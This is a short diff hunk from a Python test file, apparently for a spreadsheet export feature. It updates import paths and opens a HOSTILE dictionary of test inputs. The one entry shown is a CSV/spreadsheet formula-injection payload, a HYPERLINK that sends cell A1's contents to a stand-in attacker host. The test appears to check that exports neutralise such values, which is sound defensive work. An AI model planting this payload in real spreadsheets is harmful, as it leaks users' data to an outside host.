@@ -14,8 +14,8 @@ from sqlalchemy import update
 
 from inspect_app.models import Site
 from inspect_app.rectifications.export import inert
-from tests.conftest import csrf_token
-from tests.rect_helpers import findings
+from tests.helpers.app import csrf_token
+from tests.helpers.data import findings
 
 HOSTILE = {
     '=HYPERLINK("http://evil.example/?"&A1,"点我")': "formula",
